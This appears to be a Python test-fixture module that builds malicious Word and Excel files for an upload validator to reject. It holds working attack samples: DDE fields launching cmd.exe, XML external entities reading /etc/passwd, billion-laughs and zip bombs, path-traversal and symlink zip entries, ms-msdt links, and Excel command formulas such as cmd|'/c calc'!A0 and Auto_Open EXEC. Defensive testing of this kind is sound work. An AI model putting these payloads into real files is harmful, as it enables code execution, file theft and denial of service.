"""Word and Excel files that must never be taken."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO

from tests.uploads_make import (
    EXCEL,
    HEAD,
    OFFICE,
    WORD,
    W,
    docx,
    docx_parts,
    links,
    noughts,
    paragraph,
    xlsx,
    xlsx_parts,
    zipped,
)

Seed = tuple[str, str, bytes, str | None]
"""What it is, its name, its bytes, the code of what is to be said of it."""

# One line is one document:
# fmt: off


DDE = r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '


def _field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}<w:r><w:t>a</w:t></w:r>{mark.format('end')}</w:p>"


def _formula(text: str) -> str:
    return f'<row r="1"><c r="A1"><f>{text}</f><v>0</v></c></row>'


def office() -> Iterator[Seed]:
    laughs = f"{HEAD}<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + n)} '{(f'&{chr(97 + n)};') * 10}'>" for n in range(10)) + "]><a>&k;</a>"
    for suffix, make, parts, folder, main in (("docx", docx, docx_parts, "word", "word/document.xml"), ("xlsx", xlsx, xlsx_parts, "xl", "xl/workbook.xml")):
        name, part = f"a.{suffix}", f"{folder}__extra.xml"
        language = f"{WORD if suffix == 'docx' else EXCEL}"
        for what, type_, target, code in (
            ("picture from elsewhere", "image", "http://192.0.2.1/a.png", "outside"),
            ("template from elsewhere", "attachedTemplate", "http://192.0.2.1/a.dotm", "outside"),
            ("file from elsewhere", "oleObject", "file:///c:/a.exe", "attached"),
            ("frame from elsewhere", "frame", "http://192.0.2.1/", "outside"),
            ("link to a file", "hyperlink", "file:///c:/windows/system32/calc.exe", "links"),
            ("link to a server of files", "hyperlink", "\\\\192.0.2.1\\share", "links"),
            ("link to a script", "hyperlink", "javascript:alert(1)", "links"),
            ("link to a tool", "hyperlink", "ms-msdt:/id PCWDiagnostic", "links"),
        ):
            yield f"{what} ({suffix})", name, make(rels=[(type_, target, "External")]), code
        for what, type_, file, content, code in (
            ("macros", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", f"{folder}__vbaProject.bin", b"\xd0\xcf", "macros"),
            ("embedded object", "oleObject", f"{folder}__embeddings__oleObject1.bin", b"\xd0\xcf", "attached"),
            ("embedded program", "package", f"{folder}__embeddings__a.exe", b"MZ", "attached"),
            ("embedded page", "aFChunk", f"{folder}__afchunk.mht", b"MIME-Version: 1.0", "attached"),
            ("control", "control", f"{folder}__activeX__activeX1.xml", b"<a/>", "attached"),
            ("program as a picture", "image", f"{folder}__media__a.png", b"MZ\x90", "attached"),
            ("buttons of its own", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI__customUI.xml", b"<a/>", "script"),
            ("part of the web", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", f"{folder}__panes.xml", b"<a/>", "outside"),
            ("drawing with a script", "image", f"{folder}__media__a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "script"),
            ("drawing that fetches", "image", f"{folder}__media__a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1"/></svg>', "outside"),
        ):
            target = file.replace("__", "/").removeprefix(f"{folder}/")
            yield f"{what} ({suffix})", name, make(rels=[(type_, target, "")], **{file: content}), code
        yield (f"kind with macros ({suffix})", name, make(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros")
        yield (f"kind of another ({suffix})", name, make(kind="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), "content")
        yield f"its template ({suffix})", name, make(kind=f"{language}.template.main+xml"), "content"
        yield (f"kind told twice ({suffix})", name, make(more_types=f'<Override PartName="/{main}" ContentType="application/xml"/>'), "names")
        yield f"document type ({suffix})", name, make(**{part: laughs}), "markup"
        yield (f"file of this machine ({suffix})", name, make(**{part: f'{HEAD}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), "markup")
        yield (f"document type in two bytes ({suffix})", name, make(**{part: laughs.replace("UTF-8", "UTF-16").encode("utf-16")}), "markup")
        yield f"XML that is none ({suffix})", name, make(**{part: "<a><b></a>"}), "damaged"
        yield (f"elements within elements ({suffix})", name, make(**{part: "<a>" * 50_000 + "</a>" * 50_000}), "damaged")
        yield (f"leads out of the file ({suffix})", name, make(rels=[("image", "../../../etc/passwd", "")]), "outside")
        yield (f"two main parts ({suffix})", name, zipped({**parts(), "_rels/.rels": links(("officeDocument", main, ""), ("officeDocument", "b.xml", ""))}), "content")
        yield f"no main part ({suffix})", name, zipped({k: v for k, v in parts().items() if k != main}), None
        yield f"parts of nothing ({suffix})", name, zipped({**parts(), main: "<a/>"}), "content"
        for bad in ("../evil.xml", "/evil.xml", "word\\evil.xml", "C:evil.xml"):
            yield f"name {bad} ({suffix})", name, zipped({**parts(), bad: "<a/>"}), "names"
        yield f"name in two spellings ({suffix})", name, zipped({**parts(), main.upper(): "<a/>"}), "names"
        yield f"page within ({suffix})", name, make(**{f"{folder}__a.html": "<script>1</script>"}), "attached"
        yield f"bomb ({suffix})", name, _bombed(parts(), f"{folder}/extra.xml"), "unpacked"
        yield (f"bomb as a picture ({suffix})", name, _bombed(parts(), f"{folder}/media/a.png"), "unpacked")
        good = make()
        directory = bytearray(good)
        directory[good.rindex(b"PK\1\2") + 8] |= 1
        yield f"part with a password ({suffix})", name, bytes(directory), "password"
        yield f"something before it ({suffix})", name, b"MZ" + good, "content"
        yield f"something behind it ({suffix})", name, good + b"MZ", None
        yield f"remark of a zip ({suffix})", name, good[:-2] + b"\4\0MZ\x90\0", None
        yield f"gap ({suffix})", name, _gap(good), "damaged"
        yield (f"old file with a password ({suffix})", name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_000), "password")
        yield f"other packing ({suffix})", name, _packed(parts(), zipfile.ZIP_BZIP2), "damaged"
        yield f"link in a zip ({suffix})", name, _link(parts()), "names"
        lying = bytearray(make(**{part: b"<a>" + b" " * 2**22 + b"</a>"}))
        at = lying.rindex(f"{folder}/extra.xml".encode()) - 46
        lying[at + 24 : at + 28] = struct.pack("<I", 1_000)
        yield f"lying sizes ({suffix})", name, bytes(lying), None
    yield "command of Word", "a.docx", docx(_field(DDE)), "outside"
    yield "command of Word in pieces", "a.docx", docx(_field(" DD", "EAU", "TO c:\\\\cmd.exe ")), "outside"
    yield ("command of Word in one field", "a.docx", docx(f"<w:p><w:fldSimple w:instr='{DDE}'/></w:p>"), "outside")
    yield "command of Word behind another", "a.docx", docx(_field(" PAGE ") + _field(DDE)), "outside"
    yield ("command in the head of a page", "a.docx", docx(word__header1_dot_xml=f'{HEAD}<w:hdr xmlns:w="{W}">{_field(DDE)}</w:hdr>'), "outside")
    yield "picture by a field", "a.docx", docx(_field(' INCLUDEPICTURE "http://192.0.2.1/a.png" ')), "outside"
    yield "text by a field", "a.docx", docx(_field(' INCLUDETEXT "c:\\\\a.txt" ')), "outside"
    yield ("piece of another file", "a.docx", docx(f'{paragraph("a")}<w:altChunk xmlns:r="{OFFICE}" r:id="r0"/>'), "attached")
    yield ("object in the text", "a.docx", docx('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object></w:r></w:p>'), "attached")
    yield ("picture of an old drawing from elsewhere", "a.docx", docx('<w:p><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://192.0.2.1/a.png"/></w:pict></w:p>'), "outside")
    for formula in ("WEBSERVICE(&quot;http://192.0.2.1&quot;)", "cmd|'/c calc'!A0", "_xlfn.IMAGE(&quot;http://192.0.2.1&quot;)", "CALL(&quot;a&quot;,&quot;b&quot;)", "RTD(&quot;a&quot;,,1)"):
        yield f"formula {formula[:12]}", "a.xlsx", xlsx(_formula(formula)), "outside"
    yield ("name that is a command", "a.xlsx", xlsx(names="<definedNames><definedName name='Auto_Open'>EXEC(&quot;calc&quot;)</definedName></definedNames>"), "outside")
    yield ("another workbook", "a.xlsx", xlsx(rels=[("externalLink", "externalLinks/externalLink1.xml", "")]), "outside")
    yield "old macros", "a.xlsx", xlsx(xl__macrosheets__sheet1_dot_xml="<a/>"), "macros"
    yield ("connection", "a.xlsx", xlsx(rels=[("connections", "connections.xml", "")], xl__connections_dot_xml="<a/>"), "outside")
    yield "workbook called Word", "a.docx", xlsx(), "content"
    yield "Word called workbook", "a.xlsx", docx(), "content"
    yield ("OpenDocument called Word", "a.docx", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, stored=True), None)


def _gap(data: bytes) -> bytes:
    """The list of a zip moved on, with something between the parts and it."""
    at, end = data.index(b"PK\1\2"), data.index(b"PK\5\6")
    tail = bytearray(data[end:])
    tail[16:20] = struct.pack("<I", at + 64)
    return data[:at] + b"MZ".ljust(64) + data[at:end] + bytes(tail)


def _bombed(parts: dict[str, bytes | str], name: str) -> bytes:
    """A part of more blanks than a document may hold, told to be packed in the usual way."""
    size = 2**27 + 2**20
    raw = noughts(size, b" ")[2:-4]
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for each, content in parts.items():
            archive.writestr(each, content)
        archive.writestr(zipfile.ZipInfo(name), raw)
    data = bytearray(out.getvalue())
    local, listed = data.index(name.encode()) - 30, data.rindex(name.encode()) - 46
    struct.pack_into("<H", data, local + 8, 8)
    struct.pack_into("<I", data, local + 22, size)
    struct.pack_into("<H", data, listed + 10, 8)
    struct.pack_into("<I", data, listed + 24, size)
    return bytes(data)


def _packed(parts: dict[str, bytes | str], how: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _link(parts: dict[str, bytes | str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()
